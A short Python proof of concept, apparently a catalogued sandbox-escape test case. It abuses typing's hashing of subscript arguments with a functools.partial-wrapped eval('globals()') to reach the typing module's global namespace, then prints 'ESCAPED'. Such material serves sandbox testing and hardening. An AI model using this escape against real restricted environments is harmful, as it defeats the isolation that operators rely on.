# technique: typing hashes what stands in the brackets
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import functools
import typing
kept = []
peek = functools.partial(next, map(kept.append, map(eval, ['globals()'])), 0)


class Parameter:
    __hash__ = staticmethod(peek)


try:
    typing.List[Parameter()]
except TypeError:
    pass
if kept[0]['__name__'] == 'typing':
    print('ESCAPED globals of typing')
